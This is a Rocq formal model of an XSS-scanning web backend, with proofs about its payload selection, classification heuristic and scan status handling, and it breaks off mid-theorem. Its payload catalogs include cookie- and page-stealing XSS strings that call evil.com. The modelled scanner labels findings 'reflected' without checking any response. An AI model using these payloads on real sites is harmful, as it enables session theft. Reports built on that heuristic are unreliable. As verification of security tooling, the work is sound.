(** * A model of the XSS scanning backend (backend/server.py)

    The scan pipeline of the FastAPI backend, embedded in Rocq:
    payload selection, the payload-shape heuristic of [test_payload],
    the crawling loops of [perform_xss_scan], the per-finding AI
    enrichment, the background task [background_scan] that drives the
    scan record through its statuses, and the vulnerability listing.

    Python strings are modelled as [string] (ASCII).  The external
    collaborators (HTTP fetch, HTML parser, MongoDB, LLM oracle, clock,
    uuid generator) are parameters of an environment or threaded state. *)

From Stdlib Require Import Ascii String QArith Qminmax.
From stdpp Require Import base list gmap strings sorting.

Open Scope string_scope.

(* ================================================================= *)
(** ** Python string helpers *)

(** [str.lower()] restricted to ASCII.  (Over full Unicode, the only
    non-ASCII characters whose lowering yields ASCII letters are the
    Kelvin sign, giving "k", and the dotted capital I, giving "i"
    followed by a combining dot; neither can complete one of the
    markers the scanner looks for.) *)
Definition ascii_lower (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if (65 <=? n)%nat && (n <=? 90)%nat then ascii_of_nat (n + 32) else c.

Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (ascii_lower c) (lower s')
  end.

(** [s.startswith(p)] *)
Fixpoint startswith (s p : string) {struct p} : bool :=
  match p, s with
  | EmptyString, _ => true
  | String a p', String b s' => Ascii.eqb a b && startswith s' p'
  | String _ _, EmptyString => false
  end.

(** [p in s] for strings: substring search. *)
Fixpoint str_in (p s : string) : bool :=
  startswith s p ||
  match s with
  | EmptyString => false
  | String _ s' => str_in p s'
  end.

(** [s.split(c)] for a one-character separator. *)
Fixpoint split_on (c : ascii) (s : string) : list string :=
  match s with
  | EmptyString => [EmptyString]
  | String d s' =>
      let rest := split_on c s' in
      if Ascii.eqb c d then EmptyString :: rest
      else match rest with
           | r :: rs => String d r :: rs
           | [] => [String d EmptyString]
           end
  end.

(** Characters up to (excluding) the first one satisfying [stop], and the rest. *)
Fixpoint break_at (stop : ascii -> bool) (s : string) : string * string :=
  match s with
  | EmptyString => (EmptyString, EmptyString)
  | String c s' =>
      if stop c then (EmptyString, s)
      else let '(a, b) := break_at stop s' in (String c a, b)
  end.

Definition is_scheme_char (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((97 <=? n)%nat && (n <=? 122)%nat) || ((65 <=? n)%nat && (n <=? 90)%nat)
  || ((48 <=? n)%nat && (n <=? 57)%nat)
  || Ascii.eqb c "+" || Ascii.eqb c "-" || Ascii.eqb c ".".

Fixpoint all_chars (f : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => f c && all_chars f s'
  end.

(** [_WHATWG_C0_CONTROL_OR_SPACE]: the code points 0 to 32. *)
Definition is_c0_control_or_space (c : ascii) : bool := (nat_of_ascii c <=? 32)%nat.

(** [_UNSAFE_URL_BYTES_TO_REMOVE]: tab, carriage return and line feed. *)
Definition is_unsafe_url_byte (c : ascii) : bool :=
  Ascii.eqb c "009"%char || Ascii.eqb c "013"%char || Ascii.eqb c "010"%char.

(** [s.lstrip(chars)] *)
Fixpoint lstrip (f : ascii -> bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if f c then lstrip f s' else s
  end.

(** [for b in chars: s = s.replace(b, "")] *)
Fixpoint remove_chars (f : ascii -> bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if f c then remove_chars f s' else String c (remove_chars f s')
  end.

(** [c.isascii() and c.isalpha()] *)
Definition is_ascii_alpha (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((97 <=? n)%nat && (n <=? 122)%nat) || ((65 <=? n)%nat && (n <=? 90)%nat).

(** [urlparse(url)] as Python 3.12's [urlsplit] computes it: leading C0
    controls and spaces are stripped and tab, CR and LF removed; the text
    before the first ":" is the scheme (lowercased) when it is non-empty,
    starts with a letter and has only scheme characters; the netloc
    follows "//", up to "/", "?" or "#".  Only [f"{scheme}://{netloc}"]
    is used by the scanner.  (A netloc with unbalanced or invalid
    brackets makes [urlsplit] raise; such a URL cannot be fetched either,
    and the [except] then returns the empty list, as a fetch error does.) *)
Definition urlparse_scheme_netloc (url0 : string) : string * string :=
  let url := remove_chars is_unsafe_url_byte (lstrip is_c0_control_or_space url0) in
  let '(pre, post) := break_at (fun c => Ascii.eqb c ":") url in
  let '(scheme, rest) :=
    match post, pre with
    | String _ rest, String c0 _ =>
        if (is_ascii_alpha c0 && all_chars is_scheme_char pre)%bool
        then (lower pre, rest) else ("", url)
    | _, _ => ("", url)
    end in
  if startswith rest "//" then
    let rest' := substring 2 (String.length rest) rest in
    (scheme, fst (break_at (fun c => Ascii.eqb c "/" || Ascii.eqb c "?" || Ascii.eqb c "#") rest'))
  else (scheme, "").

(* ================================================================= *)
(** ** Data model (pydantic models) *)

Module ScanRequest.
Record t := mk {
    id : string;
    target_url : string;
    scan_type : string;
    custom_payloads : option (list string);
    include_forms : bool;
    include_urls : bool;
    max_depth : Z
  }.
End ScanRequest.

Module Vulnerability.
(** [id] is a uuid4, modelled as a fresh number; [created_at] is not modelled. *)
Record t := mk {
    id : nat;
    scan_id : string;
    vulnerability_type : string;
    severity : string;
    endpoint : string;
    parameter : string;
    payload : string;
    evidence : string;
    ai_summary : option string;
    remediation_suggestion : option string;
    false_positive : bool
  }.
End Vulnerability.

Module ScanResult.
(** Timestamps are integers (microseconds, as Python computes them; the database keeps
    milliseconds, see [result_from_bson]); [ai_risk_score] is a Python
    float, modelled as a rational: the values it takes ([2.0 * n] capped
    at [10.0]) are exactly representable. *)
Record t := mk {
    id : nat;
    scan_id : string;
    status : string;
    total_vulnerabilities : nat;
    critical_count : nat;
    high_count : nat;
    medium_count : nat;
    low_count : nat;
    ai_risk_score : option Q;
    ai_executive_summary : option string;
    scan_duration : option Z;
    started_at : option Z;
    completed_at : option Z
  }.
End ScanResult.

(* ================================================================= *)
(** ** Payload catalogs ([XSS_PAYLOADS]) *)

Definition XSS_PAYLOADS_basic : list string := [
  "<script>alert('XSS')</script>";
  "<img src=x onerror=alert('XSS')>";
  "javascript:alert('XSS')";
  "<svg onload=alert('XSS')>";
  "<iframe src=javascript:alert('XSS')></iframe>"].

Definition XSS_PAYLOADS_advanced : list string := [
  "<script>document.location='http://evil.com/steal?cookie='+document.cookie</script>";
  "<img src=x onerror=fetch('http://evil.com/steal?data='+document.body.innerHTML)>";
  "<script>eval(String.fromCharCode(97,108,101,114,116,40,39,88,83,83,39,41))</script>";
  "<svg/onload=location='javascript:alert`XSS`'>";
  "<details open ontoggle=alert('XSS')>"].

Definition XSS_PAYLOADS_evasion : list string := [
  "<ScRiPt>alert('XSS')</ScRiPt>";
  "<script>ale%72t('XSS')</script>";
  "<script>&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;</script>";
  "<script src=data:,alert('XSS')></script>";
  "<svg><script>alert('XSS')</script></svg>"].

(** The payload selection of [perform_xss_scan] (lines 147-153). *)
Definition select_payloads (req : ScanRequest.t) : list string :=
  if String.eqb (ScanRequest.scan_type req) "quick" then
    firstn 3 XSS_PAYLOADS_basic
  else if String.eqb (ScanRequest.scan_type req) "comprehensive" then
    (XSS_PAYLOADS_basic ++ XSS_PAYLOADS_advanced ++ XSS_PAYLOADS_evasion)%list
  else if String.eqb (ScanRequest.scan_type req) "custom" then
    (* [and scan_request.custom_payloads]: None and [] are falsy *)
    match ScanRequest.custom_payloads req with
    | Some (p :: ps) => p :: ps
    | _ => []
    end
  else [].

(* ================================================================= *)
(** ** [test_payload] *)

Definition markers : list string := ["<script"; "onerror="; "onload="; "javascript:"].

(** The uuid of the created [Vulnerability] is passed in as [vid]. *)
Definition test_payload (vid : nat) (scan_id endpoint parameter payload vuln_type : string)
    : option Vulnerability.t :=
  let is_vulnerable := existsb (fun pattern => str_in pattern (lower payload)) markers in
  if is_vulnerable then
    let severity :=
      if str_in "document.cookie" payload || str_in "fetch(" payload then "critical"
      else if str_in "alert(" payload then "medium"
      else "high" in
    Some (Vulnerability.mk vid scan_id ("XSS_" ++ vuln_type) severity endpoint parameter payload
            ("Payload '" ++ payload ++ "' was reflected in parameter '" ++ parameter
             ++ "' at endpoint '" ++ endpoint ++ "'")
            None None false)
  else None.

(* ================================================================= *)
(** ** [perform_xss_scan] *)

(** The parsed page, as BeautifulSoup presents it to the scanner: the
    forms in document order, each with its [action] attribute and its
    [input]/[textarea]/[select] elements with their [name] and [type]
    attributes (absent attributes are [None]). *)
Record InputField := mkInput { field_name : option string; field_type : option string }.
Record Form := mkForm { form_action : option string; form_inputs : list InputField }.

(** Outcome of [session.get(target_url)] followed by [response.text()]:
    either an exception (connection error, undecodable body) or a
    response with its HTTP status and parsed page.  The status is not
    consulted by the scanner. *)
Inductive fetch_outcome :=
| FetchRaised
| FetchResponse (http_status : Z) (page : list Form).

(** One call of [test_payload] (recorded as a ghost log). *)
Record TestCall := mkCall {
  call_endpoint : string;
  call_parameter : string;
  call_payload : string;
  call_kind : string
}.

(** The local state of the scan loops: the [vulnerabilities] list, the
    ghost log of [test_payload] calls, and the uuid supply. *)
Record ScanAcc := mkAcc {
  acc_vulns : list Vulnerability.t;
  acc_calls : list TestCall;
  acc_next : nat
}.

(** One iteration: [vulnerability = await test_payload(...)];
    [if vulnerability: vulnerabilities.append(vulnerability)]. *)
Definition run_test (scan_id endpoint parameter kind : string) (acc : ScanAcc) (payload : string)
    : ScanAcc :=
  let calls := (acc_calls acc ++ [mkCall endpoint parameter payload kind])%list in
  match test_payload (acc_next acc) scan_id endpoint parameter payload kind with
  | Some v => mkAcc (acc_vulns acc ++ [v])%list calls (S (acc_next acc))
  | None => mkAcc (acc_vulns acc) calls (acc_next acc)
  end.

Definition text_like_types : list string := ["text"; "search"; "url"; "email"; "password"].

Definition input_name (f : InputField) : string := default "unknown" (field_name f).
Definition input_type (f : InputField) : string := default "text" (field_type f).

Definition resolve_action (base_url : string) (form : Form) : string :=
  let a := default "" (form_action form) in
  if startswith a "http" then a else base_url ++ a.

(** The body of [for form in forms: ...] (lines 156-178). *)
Definition test_form (req : ScanRequest.t) (base_url : string) (payloads : list string)
    (acc : ScanAcc) (form : Form) : ScanAcc :=
  let action := resolve_action base_url form in
  fold_left (fun acc input_field =>
    if existsb (String.eqb (input_type input_field)) text_like_types then
      fold_left (run_test (ScanRequest.id req) action (input_name input_field) "form_input")
        payloads acc
    else acc)
    (form_inputs form) acc.

(** [scan_request.target_url.split('?')[1].split('&')]; the index exists
    because the caller checked ['?' in target_url]. *)
Definition query_params (url : string) : list string :=
  split_on "&" (nth 1 (split_on "?" url) "").

Definition param_name (param : string) : string := hd "" (split_on "=" param).

(** Lines 181-195. *)
Definition test_url_params (req : ScanRequest.t) (payloads : list string) (acc : ScanAcc)
    : ScanAcc :=
  let url := ScanRequest.target_url req in
  if ScanRequest.include_urls req && str_in "?" url then
    fold_left (fun acc param =>
      if str_in "=" param then
        fold_left (run_test (ScanRequest.id req) url (param_name param) "url_parameter")
          (firstn 5 payloads) acc
      else acc)
      (query_params url) acc
  else acc.

(** [f"{parsed_url.scheme}://{parsed_url.netloc}"] *)
Definition base_url_of (url : string) : string :=
  let '(scheme, netloc) := urlparse_scheme_netloc url in scheme ++ "://" ++ netloc.

(** [perform_xss_scan].  The [try] block ends in an [except] that returns
    the findings collected so far; the only statement that can raise is
    the fetch (a URL that [urlparse] rejects cannot be fetched either). *)
Definition perform_xss_scan (fetched : fetch_outcome) (req : ScanRequest.t) (acc0 : ScanAcc)
    : ScanAcc :=
  match fetched with
  | FetchRaised => acc0
  | FetchResponse _ page =>
      let base_url := base_url_of (ScanRequest.target_url req) in
      let forms := if ScanRequest.include_forms req then page else [] in
      let payloads := select_payloads req in
      test_url_params req payloads (fold_left (test_form req base_url payloads) forms acc0)
  end.

Definition scan_start (next : nat) : ScanAcc := mkAcc [] [] next.

(* ================================================================= *)
(** ** The environment and the store *)

(** The LLM calls, keyed by persona and session: [vuln_analysis_{id}]
    (gpt-4o), [remediation_{id}] (claude) and [executive_summary_{scan_id}]
    (claude).  The prompt of each call is determined by its key. *)
Inductive OracleCall :=
| Analysis (vid : nat)
| Remediation (vid : nat)
| Executive (scan_id : string).

(** Everything outside the backend: the target site, the LLM oracle
    ([None] when the call raises), which storage operations fail (by
    their rank), and the wall clock (by the rank of the reading). *)
Record Env := mkEnv {
  env_fetch : string -> fetch_outcome;
  env_oracle : OracleCall -> option string;
  env_db_fails : nat -> bool;
  env_clock : nat -> Z
}.

(** The MongoDB collections [scans], [scan_results], [vulnerabilities];
    [w_history] records every state written to a [scan_results]
    document, in order (a ghost component); [w_fresh] is the uuid supply;
    [w_dbops] and [w_ticks] count storage operations and clock readings. *)
Record World := mkWorld {
  w_scans : list ScanRequest.t;
  w_results : list ScanResult.t;
  w_vulns : list Vulnerability.t;
  w_history : list ScanResult.t;
  w_fresh : nat;
  w_dbops : nat;
  w_ticks : nat
}.

Inductive exn := DbError | OracleError | KeyError.

(** State and exception monad: a coroutine of the backend. *)
Definition M (A : Type) : Type := World -> (exn + A) * World.

Definition ret {A} (x : A) : M A := fun w => (inr x, w).

Definition bind {A B} (m : M A) (k : A -> M B) : M B :=
  fun w => match m w with
           | (inl e, w') => (inl e, w')
           | (inr x, w') => k x w'
           end.

Notation "'let!' x := m 'in' k" := (bind m (fun x => k))
  (at level 200, x name, m at level 100, k at level 200).

Definition raise {A} (e : exn) : M A := fun w => (inl e, w).

(** [try: m] [except Exception: h] *)
Definition try_except {A} (m : M A) (h : exn -> M A) : M A :=
  fun w => match m w with
           | (inl e, w') => h e w'
           | r => r
           end.

Fixpoint mapM {A B} (f : A -> M B) (l : list A) : M (list B) :=
  match l with
  | [] => ret []
  | x :: l' => let! y := f x in let! ys := mapM f l' in ret (y :: ys)
  end.

Fixpoint foldM {A B} (f : A -> B -> M A) (a : A) (l : list B) : M A :=
  match l with
  | [] => ret a
  | x :: l' => let! a' := f a x in foldM f a' l'
  end.

(** World setters. *)
Definition set_results (w : World) (rs : list ScanResult.t) (h : list ScanResult.t) : World :=
  mkWorld (w_scans w) rs (w_vulns w) h (w_fresh w) (w_dbops w) (w_ticks w).
Definition set_vulns (w : World) (vs : list Vulnerability.t) : World :=
  mkWorld (w_scans w) (w_results w) vs (w_history w) (w_fresh w) (w_dbops w) (w_ticks w).
Definition set_scans (w : World) (ss : list ScanRequest.t) : World :=
  mkWorld ss (w_results w) (w_vulns w) (w_history w) (w_fresh w) (w_dbops w) (w_ticks w).
Definition set_fresh (w : World) (n : nat) : World :=
  mkWorld (w_scans w) (w_results w) (w_vulns w) (w_history w) n (w_dbops w) (w_ticks w).
Definition set_dbops (w : World) (n : nat) : World :=
  mkWorld (w_scans w) (w_results w) (w_vulns w) (w_history w) (w_fresh w) n (w_ticks w).
Definition set_ticks (w : World) (n : nat) : World :=
  mkWorld (w_scans w) (w_results w) (w_vulns w) (w_history w) (w_fresh w) (w_dbops w) n.

(** [update_one({"scan_id": sid}, {"$set": ...})]: the first matching
    document in natural (insertion) order; no match is not an error. *)
Fixpoint update_first (sid : string) (patch : ScanResult.t -> ScanResult.t)
    (rs : list ScanResult.t) : list ScanResult.t * option ScanResult.t :=
  match rs with
  | [] => ([], None)
  | r :: rs' =>
      if String.eqb (ScanResult.scan_id r) sid then (patch r :: rs', Some (patch r))
      else let '(rs'', o) := update_first sid patch rs' in (r :: rs'', o)
  end.

Definition option_to_list {A} (o : option A) : list A :=
  match o with Some x => [x] | None => [] end.

(** The [$set] patches applied to a scan result. *)
Definition set_running (t : Z) (r : ScanResult.t) : ScanResult.t :=
  ScanResult.mk (ScanResult.id r) (ScanResult.scan_id r) "running"
    (ScanResult.total_vulnerabilities r) (ScanResult.critical_count r)
    (ScanResult.high_count r) (ScanResult.medium_count r) (ScanResult.low_count r)
    (ScanResult.ai_risk_score r) (ScanResult.ai_executive_summary r)
    (ScanResult.scan_duration r) (Some t) (ScanResult.completed_at r).

Definition set_completed (total critical high medium low : nat) (score : Q) (summary : string)
    (duration end_time : Z) (r : ScanResult.t) : ScanResult.t :=
  ScanResult.mk (ScanResult.id r) (ScanResult.scan_id r) "completed"
    total critical high medium low (Some score) (Some summary)
    (Some duration) (ScanResult.started_at r) (Some end_time).

Definition set_failed (t : Z) (r : ScanResult.t) : ScanResult.t :=
  ScanResult.mk (ScanResult.id r) (ScanResult.scan_id r) "failed"
    (ScanResult.total_vulnerabilities r) (ScanResult.critical_count r)
    (ScanResult.high_count r) (ScanResult.medium_count r) (ScanResult.low_count r)
    (ScanResult.ai_risk_score r) (ScanResult.ai_executive_summary r)
    (ScanResult.scan_duration r) (ScanResult.started_at r) (Some t).

Section Backend.
Variable env : Env.

(** [datetime.now(timezone.utc)] *)
Definition now : M Z :=
  fun w => (inr (env_clock env (w_ticks w)), set_ticks w (S (w_ticks w))).

(** [uuid.uuid4()].  A uuid is modelled by its draw number: two draws
    never give the same uuid (the collision of random uuids is neglected),
    and nothing else about uuid values is modelled. *)
Definition fresh_uuid : M nat :=
  fun w => (inr (w_fresh w), set_fresh w (S (w_fresh w))).

(** A storage operation: it fails before any effect when the
    environment says so. *)
Definition db_op {A} (f : World -> A * World) : M A :=
  fun w =>
    let n := w_dbops w in
    let w1 := set_dbops w (S n) in
    if env_db_fails env n then (inl DbError, w1)
    else let '(x, w2) := f w1 in (inr x, w2).

Definition insert_scan (req : ScanRequest.t) : M unit :=
  db_op (fun w => (tt, set_scans w (w_scans w ++ [req])%list)).

Definition insert_result (r : ScanResult.t) : M unit :=
  db_op (fun w => (tt, set_results w (w_results w ++ [r])%list (w_history w ++ [r])%list)).

Definition insert_vuln (v : Vulnerability.t) : M unit :=
  db_op (fun w => (tt, set_vulns w (w_vulns w ++ [v])%list)).

Definition update_one_result (sid : string) (patch : ScanResult.t -> ScanResult.t) : M unit :=
  db_op (fun w =>
    let '(rs, o) := update_first sid patch (w_results w) in
    (tt, set_results w rs (w_history w ++ option_to_list o)%list)).

(** [await chat.send_message(...)], which raises on failure. *)
Definition call_oracle (c : OracleCall) : M string :=
  match env_oracle env c with
  | Some s => ret s
  | None => raise OracleError
  end.

(** The crawling and testing stage, drawing the uuids of the findings
    from the supply. *)
Definition scan_task (req : ScanRequest.t) : M ScanAcc :=
  fun w =>
    let acc := perform_xss_scan (env_fetch env (ScanRequest.target_url req)) req
                 (scan_start (w_fresh w)) in
    (inr acc, set_fresh w (acc_next acc)).

(* ----------------------------------------------------------------- *)
(** *** [analyze_vulnerability_with_ai] *)

Definition ai_fallback_summary : string := "AI analysis failed - manual review required".
Definition ai_fallback_remediation : string :=
  "Apply standard XSS prevention techniques: input validation, output encoding, CSP headers".

Definition with_ai_summary (v : Vulnerability.t) (s : option string) : Vulnerability.t :=
  Vulnerability.mk (Vulnerability.id v) (Vulnerability.scan_id v)
    (Vulnerability.vulnerability_type v) (Vulnerability.severity v)
    (Vulnerability.endpoint v) (Vulnerability.parameter v) (Vulnerability.payload v)
    (Vulnerability.evidence v) s (Vulnerability.remediation_suggestion v)
    (Vulnerability.false_positive v).

Definition with_remediation (v : Vulnerability.t) (s : option string) : Vulnerability.t :=
  Vulnerability.mk (Vulnerability.id v) (Vulnerability.scan_id v)
    (Vulnerability.vulnerability_type v) (Vulnerability.severity v)
    (Vulnerability.endpoint v) (Vulnerability.parameter v) (Vulnerability.payload v)
    (Vulnerability.evidence v) (Vulnerability.ai_summary v) s
    (Vulnerability.false_positive v).

(** The [except] branch: both fields get their fallback text. *)
Definition ai_fallback (v : Vulnerability.t) : Vulnerability.t :=
  with_remediation (with_ai_summary v (Some ai_fallback_summary)) (Some ai_fallback_remediation).

(** The object is mutated in place: a successful analysis is written to
    [ai_summary] before the remediation call, and the single [except]
    then overwrites both fields. *)
Definition analyze_vulnerability_with_ai (vulnerability : Vulnerability.t) : Vulnerability.t :=
  match env_oracle env (Analysis (Vulnerability.id vulnerability)) with
  | None => ai_fallback vulnerability
  | Some analysis_response =>
      let v1 := with_ai_summary vulnerability (Some analysis_response) in
      match env_oracle env (Remediation (Vulnerability.id vulnerability)) with
      | None => ai_fallback v1
      | Some remediation_response => with_remediation v1 (Some remediation_response)
      end
  end.

(* ----------------------------------------------------------------- *)
(** *** [background_scan] *)

Definition severity_counts0 : gmap string nat :=
  <["critical" := 0%nat]> (<["high" := 0%nat]> (<["medium" := 0%nat]> (<["low" := 0%nat]> ∅))).

(** [severity_counts[vuln.severity] += 1]; a missing key raises [KeyError]. *)
Definition count_severity (counts : gmap string nat) (vuln : Vulnerability.t)
    : M (gmap string nat) :=
  match counts !! Vulnerability.severity vuln with
  | Some n => ret (<[Vulnerability.severity vuln := S n]> counts)
  | None => raise KeyError
  end.

(** [d[k]] *)
Definition getitem (counts : gmap string nat) (k : string) : M nat :=
  match counts !! k with
  | Some n => ret n
  | None => raise KeyError
  end.

(** Python's [min(a, b)]: [b] only when it is strictly smaller. *)
Definition py_min (a b : Q) : Q := if Qlt_le_dec b a then b else a.

(** [min(10.0, len(analyzed_vulnerabilities) * 2.0)] *)
Definition risk_score (n : nat) : Q := py_min 10 (inject_Z (Z.of_nat n) * 2).

Definition no_vuln_summary : string :=
  "No XSS vulnerabilities detected in the target application.".

Definition analyze_and_store (vuln : Vulnerability.t) : M Vulnerability.t :=
  let analyzed_vuln := analyze_vulnerability_with_ai vuln in
  let! _ := insert_vuln analyzed_vuln in
  ret analyzed_vuln.

(** The stages between the two status updates of the [try] block. *)
Definition scan_stages (req : ScanRequest.t) (start_time : Z)
    : M (list Vulnerability.t * Z * Z * gmap string nat * string) :=
  let! acc := scan_task req in
  let! analyzed := mapM analyze_and_store (acc_vulns acc) in
  let! end_time := now in
  let duration := (end_time - start_time)%Z in
  let! counts := foldM count_severity severity_counts0 analyzed in
  let! summary :=
    match analyzed with
    | [] => ret no_vuln_summary
    | _ :: _ => call_oracle (Executive (ScanRequest.id req))
    end in
  ret (analyzed, end_time, duration, counts, summary).

Definition scan_body (req : ScanRequest.t) : M unit :=
  let! t0 := now in
  let! _ := update_one_result (ScanRequest.id req) (set_running t0) in
  let! start_time := now in
  let! stages := scan_stages req start_time in
  let '(analyzed, end_time, duration, counts, summary) := stages in
  let! critical := getitem counts "critical" in
  let! high := getitem counts "high" in
  let! medium := getitem counts "medium" in
  let! low := getitem counts "low" in
  update_one_result (ScanRequest.id req)
    (set_completed (length analyzed) critical high medium low
       (risk_score (length analyzed)) summary duration end_time).

Definition background_scan (req : ScanRequest.t) : M unit :=
  try_except (scan_body req)
    (fun _ => let! t := now in update_one_result (ScanRequest.id req) (set_failed t)).

(** [create_scan]: store the request and the pending result. *)
Definition create_scan (req : ScanRequest.t) : M unit :=
  let! _ := insert_scan req in
  let! rid := fresh_uuid in
  insert_result (ScanResult.mk rid (ScanRequest.id req) "pending" 0 0 0 0 0
                   None None None None None).

(** A [POST /api/scans] followed by its background task. *)
Definition submit (req : ScanRequest.t) : M unit :=
  let! _ := create_scan req in
  background_scan req.

(** A server handling submissions one after the other; an exception
    escaping a request or a task is logged and the server goes on. *)
Fixpoint serve (reqs : list ScanRequest.t) : M unit :=
  match reqs with
  | [] => ret tt
  | r :: rs => let! _ := try_except (submit r) (fun _ => ret tt) in serve rs
  end.

End Backend.

(* ================================================================= *)
(** ** [get_scan_vulnerabilities] *)

(** MongoDB compares strings by their bytes: [String.le]. *)
Definition severity_le (v1 v2 : Vulnerability.t) : Prop :=
  String.le (Vulnerability.severity v1) (Vulnerability.severity v2).

#[global] Instance severity_le_dec : RelDecision severity_le.
Proof. intros v1 v2. unfold severity_le. apply _. Defined.

(** [db.vulnerabilities.find({"scan_id": scan_id}).sort("severity", 1).to_list(1000)].
    MongoDB leaves the order of equal keys open; the model fixes a
    stable merge sort. *)
Definition get_scan_vulnerabilities (scan_id : string) (vulns : list Vulnerability.t)
    : list Vulnerability.t :=
  take 1000 (merge_sort severity_le
               (filter (fun v => Vulnerability.scan_id v = scan_id) vulns)).

(* ================================================================= *)
(** ** Reading of the spec: substrings *)

(** [p] occurs in [s]. *)
Definition substring_of (p s : string) : Prop :=
  exists pre post, s = pre ++ p ++ post.

(** [p] occurs in [s] up to the case of letters. *)
Definition ci_substring_of (p s : string) : Prop :=
  exists pre mid post, s = pre ++ mid ++ post /\ lower mid = lower p.

(* ================================================================= *)
(** * Properties *)

(** ** String lemmas *)

Lemma startswith_spec (s p : string) :
  startswith s p = true <-> exists post, s = p ++ post.
Proof.
  revert s. induction p as [|a p IH]; intros s; simpl.
  - split; [intros _; now exists s|reflexivity].
  - destruct s as [|b s].
    + split; [discriminate|intros [post Hp]; discriminate].
    + rewrite andb_true_iff, Ascii.eqb_eq, IH. split.
      * intros [-> [post ->]]. now exists post.
      * intros [post Hp]. injection Hp as -> ->. split; [reflexivity|now exists post].
Qed.

Lemma str_in_spec (p s : string) : str_in p s = true <-> substring_of p s.
Proof.
  unfold substring_of. induction s as [|c s IH]; simpl.
  - rewrite orb_false_r, startswith_spec. split.
    + intros [post Hp]. exists "", post. exact Hp.
    + intros [pre [post Hp]]. destruct pre; [now exists post|discriminate].
  - rewrite orb_true_iff, startswith_spec, IH. split.
    + intros [[post Hp]|[pre [post Hp]]].
      * exists "", post. exact Hp.
      * exists (String c pre), post. simpl. now rewrite Hp.
    + intros [[|c' pre] [post Hp]].
      * left. now exists post.
      * right. injection Hp as -> Hp. now exists pre, post.
Qed.

Lemma lower_app (a b : string) : lower (a ++ b) = lower a ++ lower b.
Proof. induction a as [|c a IH]; simpl; [reflexivity|now rewrite IH]. Qed.

Lemma lower_app_inv (s x y : string) :
  lower s = x ++ y -> exists a b, s = a ++ b /\ lower a = x /\ lower b = y.
Proof.
  revert s. induction x as [|c x IH]; intros s Hs; simpl in Hs.
  - now exists "", s.
  - destruct s as [|d s]; simpl in Hs; [discriminate|].
    injection Hs as Hc Hs. destruct (IH s Hs) as (a & b & -> & Ha & Hb).
    exists (String d a), b. simpl. now rewrite Ha, Hc.
Qed.

Lemma str_in_lower_spec (p s : string) :
  lower p = p -> str_in p (lower s) = true <-> ci_substring_of p s.
Proof.
  intros Hp. rewrite str_in_spec. unfold substring_of, ci_substring_of. split.
  - intros (pre & post & Hs).
    destruct (lower_app_inv s pre (p ++ post) Hs) as (a & b & -> & Ha & Hb).
    destruct (lower_app_inv b p post Hb) as (m & c & -> & Hm & Hc).
    exists a, m, c. split; [reflexivity|now rewrite Hm, Hp].
  - intros (pre & mid & post & -> & Hm).
    exists (lower pre), (lower post). now rewrite !lower_app, Hm, Hp.
Qed.

(** ** The payload-shape heuristic *)

Lemma markers_lowercase (m : string) : In m markers -> lower m = m.
Proof. intros Hm. repeat (destruct Hm as [<-|Hm]; [reflexivity|]). destruct Hm. Qed.

Lemma is_vulnerable_spec (payload : string) :
  existsb (fun pattern => str_in pattern (lower payload)) markers = true
  <-> Exists (fun m => ci_substring_of m payload) markers.
Proof.
  rewrite existsb_exists, Exists_exists. split.
  - intros (m & Hm & Hin). exists m. split; [now apply list_elem_of_In|].
    now apply (str_in_lower_spec m payload (markers_lowercase m Hm)).
  - intros (m & Hm & Hci). apply list_elem_of_In in Hm. exists m. split; [exact Hm|].
    now apply (str_in_lower_spec m payload (markers_lowercase m Hm)).
Qed.

(** C1.  [test_payload] produces a finding exactly when the payload
    contains, ignoring case, one of "<script", "onerror=", "onload=",
    "javascript:"; the finding is "critical" when the payload contains
    "document.cookie" or "fetch(", otherwise "medium" when it contains
    "alert(", otherwise "high". *)
Theorem test_payload_classification (vid : nat)
    (scan_id endpoint parameter payload vuln_type : string) :
  (is_Some (test_payload vid scan_id endpoint parameter payload vuln_type)
     <-> Exists (fun m => ci_substring_of m payload) markers) /\
  (forall v, test_payload vid scan_id endpoint parameter payload vuln_type = Some v ->
     ((substring_of "document.cookie" payload \/ substring_of "fetch(" payload) ->
        Vulnerability.severity v = "critical") /\
     (~ (substring_of "document.cookie" payload \/ substring_of "fetch(" payload) ->
        substring_of "alert(" payload -> Vulnerability.severity v = "medium") /\
     (~ (substring_of "document.cookie" payload \/ substring_of "fetch(" payload) ->
        ~ substring_of "alert(" payload -> Vulnerability.severity v = "high")).
Proof.
  unfold test_payload. rewrite <- is_vulnerable_spec.
  destruct (existsb _ markers) eqn:Hv.
  - split; [split; [intros _; reflexivity|intros _; eexists; reflexivity]|].
    intros v Hsome. injection Hsome as <-. simpl.
    rewrite <- !str_in_spec.
    destruct (str_in "document.cookie" payload) eqn:Hd;
      destruct (str_in "fetch(" payload) eqn:Hf;
      destruct (str_in "alert(" payload) eqn:Ha; simpl;
      repeat split; intros; intuition congruence.
  - split; [split; [intros [v Hv']; discriminate|discriminate]|].
    intros v Hv'. discriminate.
Qed.

(** ** Payload selection *)

Lemma test_payload_classification_witness :
  exists v, test_payload 0 "scan-1" "https://x.test/search" "q"
              "<script>fetch('x')</script>" "form_input" = Some v /\
            Vulnerability.severity v = "critical".
Proof.
  eexists. split; [reflexivity|].
  apply (proj1 (proj2 (test_payload_classification 0 "scan-1" "https://x.test/search" "q"
                         "<script>fetch('x')</script>" "form_input") _ eq_refl)).
  right. exists "<script>", "'x')</script>". reflexivity.
Defined.

(** C2.  "quick" selects the first three basic payloads, "comprehensive"
    the basic, advanced and evasion catalogs in that order (15 payloads),
    and "custom" the caller's [custom_payloads] (nothing when absent). *)
Theorem select_payloads_by_scan_type (req : ScanRequest.t) :
  (ScanRequest.scan_type req = "quick" ->
     select_payloads req = firstn 3 XSS_PAYLOADS_basic) /\
  (ScanRequest.scan_type req = "comprehensive" ->
     select_payloads req = (XSS_PAYLOADS_basic ++ XSS_PAYLOADS_advanced ++ XSS_PAYLOADS_evasion)%list
     /\ length (select_payloads req) = 15%nat) /\
  (ScanRequest.scan_type req = "custom" ->
     (forall l, ScanRequest.custom_payloads req = Some l -> select_payloads req = l) /\
